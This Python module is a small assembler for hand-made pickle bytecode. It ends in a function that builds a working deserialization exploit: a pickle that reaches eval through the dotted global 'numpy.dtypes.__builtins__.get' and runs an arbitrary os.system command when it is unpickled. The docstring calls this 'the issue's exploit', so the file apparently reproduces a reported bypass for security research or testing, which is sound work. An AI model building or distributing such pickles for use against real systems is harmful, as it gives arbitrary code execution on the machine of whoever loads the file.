"""A small assembler for hand-made pickles (protocol 4 opcodes), for gadgets pickle.dumps cannot write."""

from __future__ import annotations

import struct


def text(s: str) -> bytes:
    """BINUNICODE: push a str."""
    raw = s.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def global_(module: str, name: str) -> bytes:
    """STACK_GLOBAL: push module.name as the unpickler's find_class resolves it (dotted names allowed)."""
    return text(module) + text(name) + b"\x93"


def call(fn: bytes, *args: bytes) -> bytes:
    """REDUCE: fn(*args)."""
    return fn + b"(" + b"".join(args) + b"t" + b"R"


def finish(body: bytes) -> bytes:
    """PROTO 4 ... STOP."""
    return b"\x80\x04" + body + b"."


def dotted_eval_gadget(command: str) -> bytes:
    """numpy.dtypes.__builtins__.get('eval')("__import__('os').system(command)"): the issue's exploit."""
    get_eval = call(global_("numpy", "dtypes.__builtins__.get"), text("eval"))
    return finish(call(get_eval, text(f"__import__('os').system({command!r})")))
